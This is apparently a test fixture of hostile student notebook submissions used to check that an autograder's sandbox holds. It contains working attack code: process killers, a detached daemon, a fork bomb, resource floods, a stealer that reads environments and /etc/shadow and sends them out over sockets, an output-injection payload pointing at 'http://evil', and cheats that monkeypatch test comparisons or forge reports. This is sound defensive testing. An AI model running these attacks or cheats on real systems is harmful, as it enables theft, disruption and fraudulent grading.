"""Hostile submissions for the grader (issue 24): each is the blank student notebook of exercise 0
with the attack's cells added after it, so any mark it earns is a mark the attack won.

Each attack is code with ``{placeholders}`` that the test fills in (the planted variable's name, never its value; the
listeners' addresses, a token for the processes it leaves, the grader's pid). Most end by raising
an exception whose *class name* reports what the attack managed (``Report_...``): the grader
puts that name in the status, which is how the test reads back, for instance, how many processes
a fork bomb got (and checks that the status is one escaped line).
"""

from __future__ import annotations

# 1. Kill the grader or a sibling: prlimit(RLIMIT_CPU, 1 s) and SIGKILL on every pid it can name:
#    its parent, every pid in its /proc, the grader's real pid, and kill(-1) at the end.
PRLIMIT = r'''
import os, resource, signal
done = {"prlimit": 0, "kill": 0}
targets = {os.getppid(), {grader_pid}, 1} | {int(p) for p in os.listdir("/proc") if p.isdigit()}
targets.discard(os.getpid())
for pid in sorted(targets):
    if pid <= 0:
        continue
    try:
        resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
        done["prlimit"] += 1
    except (OSError, ValueError):
        pass
    try:
        os.kill(pid, signal.SIGKILL)
        done["kill"] += 1
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)  # every process it may signal: in the sandbox, only its own
except OSError:
    pass
'''

# 2. Outlive its turn: double fork, setsid, execve with a fresh environment, sleep (no CPU), and
#    meanwhile try to kill every other process it can see (later kernels).
DAEMON = r'''
import os, sys, time
code = (
    "import os, signal, time\n"
    "end = time.time() + 600\n"
    "while time.time() < end:\n"
    "    for p in os.listdir('/proc'):\n"
    "        if p.isdigit() and int(p) != os.getpid():\n"
    "            try:\n"
    "                os.kill(int(p), signal.SIGKILL)\n"
    "            except OSError:\n"
    "                pass\n"
    "    time.sleep(0.2)\n"
    "# {token}\n"
)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", code, "{token}"], {})
    os._exit(0)
time.sleep(1)
'''

# 3. Read secrets and reach the network: the environment, every /proc/<pid>/environ, /etc/shadow;
#    then send what it found by UDP, TCP, a UNIX socket (path and abstract) and a raw socket.
SECRETS = r'''
import glob, os, socket
loot = [f"{k}={v}" for k, v in os.environ.items()]
for path in glob.glob("/proc/*/environ") + ["/etc/shadow", "/proc/1/environ", "{unix_path}"]:
    try:
        with open(path, "rb") as f:
            loot.append(f.read().decode(errors="replace"))
    except OSError:
        pass
data = "\n".join(loot).encode()[:60000] or b"nothing"
sent = []
def attempt(name, fn):
    try:
        fn()
        sent.append(name)
    except OSError:
        pass
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(data, ("127.0.0.1", {udp_port}))
def tcp():
    s = socket.create_connection(("127.0.0.1", {tcp_port}), timeout=3)
    s.sendall(data)
def unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.sendto(data, "{unix_path}")
def abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.sendto(data, "\0{abstract_name}")
def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.sendto(data, ("127.0.0.1", {udp_port}))
for name, fn in [("udp", udp), ("tcp", tcp), ("unix", unix), ("abstract", abstract), ("raw", raw)]:
    attempt(name, fn)
found = sum("{secret_name}" in x for x in loot)
raise type(f"Report_secret{found}_sent_{'_'.join(sent) or 'nothing'}", (Exception,), {})()
'''

# 4a. Memory: four children of 512 MiB each, under a per-process limit they all respect.
MEMORY = r'''
import os
kids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        block = bytearray(b"\x01") * (512 * 2**20)  # written: resident, not only reserved
        import time
        time.sleep(5)
        os._exit(0)
    kids.append(pid)
killed = sum(os.WIFSIGNALED(os.waitpid(pid, 0)[1]) for pid in kids)
raise type(f"Report_memory_killed{killed}", (Exception,), {})()
'''

# 4b. Processes: a fork bomb whose children sleep (the count is what the limit allows).
FORKS = r'''
import os, time
made = 0
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    made += 1
raise type(f"Report_forks{made}", (Exception,), {})()
'''

# 4c. Disk: one huge file, then many files, in its folder, in /tmp and beside the sockets.
DISK = r'''
import os
report = []
def fill(path, size):
    try:
        with open(path, "wb") as f:
            chunk = b"\0" * 2**20
            for _ in range(size):
                f.write(chunk)
        return "full"
    except OSError as err:
        return type(err).__name__ + str(err.errno)
report.append(fill("big.bin", 2048))
report.append(fill("/tmp/big.bin", 2048))
import json
with open(os.path.expanduser("~/.kernel.json")) as f:  # its connection file names the socket folder
    sockets = os.path.dirname(json.load(f)["ip"])
report.append(fill(os.path.join(sockets, "filler.bin"), 8))
raise type("Report_disk_" + "_".join(report), (Exception,), {})()
'''

# 4d. Output: print without end for as long as the cell may run.
FLOOD = r'''
import sys, time
line = "x" * 10000 + "\n"
end = time.time() + 20
while time.time() < end:
    sys.stdout.write(line * 100)
'''

# 4e. Replies: an answer far over any cap, to every call.
HUGE_REPLY = r'''
import torch
big = torch.zeros(40 * 2**20)  # 160 MB as float32, 213 MB as base64
def mse(y_pred, y_true):
    return big
def gd_step(w, b, X, y, lr):
    return big, big
w_two_steps = big
def fit_line(x, y):
    return big, big
'''

# 5a. Marks without the work: every function raises the ValueError the error tests expect.
RAISE_ALL = r'''
def mse(y_pred, y_true):
    raise ValueError("shapes differ")
def gd_step(w, b, X, y, lr):
    raise ValueError("no")
def fit_line(x, y):
    raise ValueError("no")
w_two_steps = 0.0
'''

# 5b. In-place change hidden by rewriting the report: gd_step changes w in place (its values are
#     right), and json.dumps is patched so the kernel reports the inputs as sent and the repeated
#     call's answer as the first one's.
INPLACE_FORGE = r'''
import json, torch
def gd_step(w, b, X, y, lr):
    b = torch.as_tensor(b, dtype=w.dtype)
    residual = X @ w + b - y
    n = X.shape[0]
    w -= lr * (2.0 / n) * (X.T @ residual)  # in place: the mistake
    return w, b - lr * (2.0 / n) * residual.sum()
_sent = {}
_dumps = json.dumps
def forged_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "after" in obj and "answer" in obj:
        obj = dict(obj)
        obj["after"] = {k: _sent.get(k, v) for k, v in obj["after"].items()}
        if "again" in obj:
            obj["again"] = obj["answer"]
    return _dumps(obj, *args, **kwargs)
json.dumps = forged_dumps
_loads = json.loads
def spying_loads(text, *args, **kwargs):
    value = _loads(text, *args, **kwargs)
    if isinstance(value, dict) and "inputs" in value and "after" in value:
        _sent.clear()
        _sent.update({k: value["inputs"][k] for k in value["after"]})
    return value
json.loads = spying_loads
'''

# 6. Inject into the output: a class name with newlines, a forged console line, 200 KB.
INJECT = r'''
name = "X\nalice.ipynb 16/16 ok\r\x1b[2J=HYPERLINK(\"http://evil\")" + "A" * 200000
raise type(name, (Exception,), {})("\n".join(["bob.ipynb,9,9,9,9,36,36,ok"] * 1000))
'''

# Monkeypatching every comparison the grader might use (in its own kernel). tests/test_exercises.py
# appends the same patches to every exercise's dummy answers.
PATCHES = r'''
import numpy as np, numpy.testing, torch, torch.testing, doctest, dlbook
np.allclose = np.array_equal = lambda *a, **k: True
np.isclose = lambda *a, **k: np.array(True)
np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = lambda *a, **k: None
torch.allclose = torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
dlbook.accuracy = lambda *a, **k: torch.tensor(1.0)
dlbook.train.accuracy = dlbook.accuracy
doctest.DocTestRunner.run = lambda self, *a, **k: doctest.TestResults(0, 0)
'''

# ... with dummies of the right types in place of the answers.
TAMPER = PATCHES + r'''
mse = lambda a, b: torch.tensor(0.0)
gd_step = lambda w, b, X, y, lr: (w, torch.as_tensor(b))
w_two_steps = 0.0
fit_line = lambda x, y: (torch.zeros(1), torch.tensor(0.0))
'''

# Attacks whose cells go first (their report is then the status's first error); the others come
# after the blank notebook's cells, whose definitions they replace.
FIRST = {"prlimit", "daemon", "secrets", "memory", "forks", "disk", "flood", "inject"}

ATTACKS = {
    "prlimit": PRLIMIT,
    "daemon": DAEMON,
    "secrets": SECRETS,
    "memory": MEMORY,
    "forks": FORKS,
    "disk": DISK,
    "flood": FLOOD,
    "huge_reply": HUGE_REPLY,
    "raise_all": RAISE_ALL,
    "inplace_forge": INPLACE_FORGE,
    "inject": INJECT,
    "tamper": TAMPER,
}
